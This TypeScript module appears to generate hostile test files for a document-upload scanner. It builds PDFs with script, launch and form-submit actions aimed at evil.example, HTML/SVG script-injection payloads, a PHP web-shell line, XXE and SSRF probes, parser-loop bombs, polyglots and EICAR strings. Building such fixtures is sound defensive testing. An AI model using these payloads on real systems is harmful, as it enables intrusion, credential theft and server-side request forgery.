import { EICAR } from '../../support/eicar.ts';
import { filesOf, type HostileFile } from './hostile-file.ts';
import { zipOf } from './zip.ts';

const PDF = 'application/pdf';

const pdf = (catalog: string, more = ''): string =>
  `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${more}\ntrailer<</Root 1 0 R>>\n%%EOF\n`;

const ACTIONS: Readonly<Record<string, string>> = {
  script: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>',
  'script-named': '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.exportDataObject())>>]>>>>',
  'script-hidden': '/OpenAction<</S/#4aavaScript/JS(app.alert(1))>>',
  launch: '/OpenAction<</S/Launch/F(cmd.exe)>>',
  'launch-unix': '/OpenAction<</S/Launch/F(/bin/sh)>>',
  uri: '/OpenAction<</S/URI/URI(http://169.254.169.254/latest)>>',
  submit: '/OpenAction<</S/SubmitForm/F(http://evil.example/)>>',
  remote: '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>',
  embedded: '/OpenAction<</S/GoToE/T<</R/C/N(x.exe)>>>>',
  import: '/OpenAction<</S/ImportData/F(http://evil.example/x.fdf)>>',
  multimedia: '/OpenAction<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D(x)>>>>>>',
  additional: '/AA<</WC<</S/JavaScript/JS(x)>>>>',
  xfa: '/AcroForm<</XFA(<xdp><script>x</script></xdp>)>>',
  richmedia: '/Annots[<</Subtype/RichMedia>>]',
};

const actions = (): HostileFile[] =>
  filesOf(
    'acting PDF',
    PDF,
    Object.fromEntries(Object.entries(ACTIONS).map(([name, act]) => [`${name}.pdf`, pdf(act)])),
  );

const locked = (): HostileFile[] =>
  filesOf('encrypted PDF', PDF, {
    'user.pdf': pdf('', '3 0 obj<</Filter/Standard/V 5/R 6/O(x)/U(x)/P -1>>endobj'),
    'owner.pdf': pdf('', '3 0 obj<</Filter/Standard/V 1/R 2>>endobj'),
    'unknown.pdf': pdf('', '3 0 obj<</Filter/Evil.Handler>>endobj'),
    'certificate.pdf': pdf('', '3 0 obj<</Filter/Adobe.PubSec>>endobj'),
  });

const loops = (): HostileFile[] =>
  filesOf('PDF without end', PDF, {
    'pages.pdf': pdf('').replace('/Kids[]', '/Kids[2 0 R]'),
    'catalog.pdf': '%PDF-1.7\n1 0 obj 1 0 R endobj\ntrailer<</Root 1 0 R/Prev 0>>\n%%EOF\n',
    'huge-count.pdf': pdf('').replace('/Count 0', '/Count 2147483647'),
    'deep.pdf': pdf(`/X${'['.repeat(50_000)}${']'.repeat(50_000)}`),
    'filters.pdf': pdf('', `3 0 obj<</Length 9/Filter[${'/FlateDecode'.repeat(500)}]>>stream\nx\nendstream endobj`),
    'xref.pdf': '%PDF-1.7\nxref\n0 4294967295\ntrailer<</Size 4294967295>>\nstartxref\n9\n%%EOF\n',
    'length.pdf': pdf('', '3 0 obj<</Length 99999999999>>stream\nx\nendstream endobj'),
  });

const HTML = '<html><body><script>alert(document.cookie)</script></body></html>';

const pages = (): HostileFile[] => [
  ...filesOf('page that runs', 'text/html', {
    'page.html': HTML,
    'page.htm': `<!doctype html>${HTML}`,
    'event.html': '<img src=x onerror=alert(1)>',
    'frame.html': '<iframe src="javascript:alert(1)"></iframe>',
    'meta.html': '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    'utf7.html': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    'form.html': '<form action="http://evil.example/"><input name="password"></form>',
    'script.js': 'fetch("/api/v1/me").then((answer) => answer.text())',
    'page.mht': 'MIME-Version: 1.0\nContent-Type: multipart/related\n\n<script>alert(1)</script>',
    'link.url': '[InternetShortcut]\nURL=file:///etc/passwd\n',
    'app.hta': '<hta:application/><script>x</script>',
    'shell.php': '<?php system($_GET["x"]); ?>',
    'page.jsp': '<% Runtime.getRuntime().exec("id"); %>',
  }),
  ...filesOf('SVG that runs', 'image/svg+xml', {
    'script.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    'load.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'foreign.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${HTML}</foreignObject></svg>`,
    'use.svg': '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    'link.svg': '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
    'entity.svg': '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
    'remote.svg': '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>',
    'style.svg': '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?><svg/>',
    'animate.svg': '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onload" to="alert(1)"/></svg>',
  }),
];

const start = Buffer.from('%PDF-1.7\n');
const png = Buffer.from('89504e470d0a1a0a', 'hex');
const jpeg = Buffer.from('ffd8ffe0', 'hex');
const archive = () => zipOf([{ name: 'x.exe', content: Buffer.from('MZ') }]);

const polyglots = (): HostileFile[] =>
  filesOf('two kinds in one', PDF, {
    'pdf-zip.pdf': Buffer.concat([start, archive()]),
    'zip-pdf.zip': Buffer.concat([archive(), start]),
    'pdf-html.pdf': Buffer.concat([start, Buffer.from(HTML)]),
    'html-pdf.html': Buffer.concat([Buffer.from(HTML), start]),
    'png-html.png': Buffer.concat([png, Buffer.from(HTML)]),
    'png-php.png': Buffer.concat([png, Buffer.from('<?php system("id"); ?>')]),
    'jpeg-zip.jpg': Buffer.concat([jpeg, archive()]),
    'jpeg-js.jpg': Buffer.concat([jpeg, Buffer.from('*/=alert(1)/*')]),
    'gif-js.gif': Buffer.from('GIF89a/*\x00*/=alert(1)'),
    'pdf-exe.pdf': Buffer.concat([start, Buffer.from('MZ\x90\x00')]),
    'exe-pdf.exe': Buffer.concat([Buffer.from('MZ\x90\x00'), start]),
    'late.pdf': Buffer.concat([Buffer.alloc(1_000, ' '), start]),
    'mbox-pdf.pdf': Buffer.concat([Buffer.from('From x\n'), start]),
  });

const MAGIC: Readonly<Record<string, string>> = {
  exe: '4d5a9000',
  elf: '7f454c46',
  class: 'cafebabe',
  gif: '474946383961',
  bmp: '424d',
  tiff: '49492a00',
  webp: '524946460000000057454250',
  heic: '000000186674797068656963',
  rar: '526172211a0700',
  sevenzip: '377abcaf271c',
  gzip: '1f8b0800',
  xz: 'fd377a585a00',
  cab: '4d534346',
  lnk: '4c00000001140200',
  wasm: '0061736d',
  sqlite: '53514c69746520666f726d6174203300',
  psd: '38425053',
  mp4: '0000001866747970',
  swf: '435753',
  msi: 'd0cf11e0a1b11ae1',
};

const wrong = (): HostileFile[] =>
  Object.entries(MAGIC).flatMap(([kind, start]) =>
    filesOf('another kind than it says', PDF, {
      [`invoice.${kind}.pdf`]: Buffer.concat([Buffer.from(start, 'hex'), Buffer.alloc(64)]),
    }),
  );

const viruses = (): HostileFile[] =>
  filesOf('antivirus test file', 'text/plain', {
    'eicar.txt': Buffer.from(EICAR),
    'eicar-spaces.txt': Buffer.concat([Buffer.from(EICAR), Buffer.from(' \n')]),
    'eicar.pdf': Buffer.concat([start, Buffer.from(EICAR)]),
    'eicar.png': Buffer.concat([png, Buffer.from(EICAR)]),
    'eicar.xml': Buffer.concat([Buffer.from('<x>'), Buffer.from(EICAR), Buffer.from('</x>')]),
    'eicar.zip': zipOf([{ name: 'eicar.com', content: Buffer.from(EICAR) }]),
  });

export const documents = (): HostileFile[] => [
  ...actions(),
  ...locked(),
  ...loops(),
  ...pages(),
  ...polyglots(),
  ...wrong(),
  ...viruses(),
];
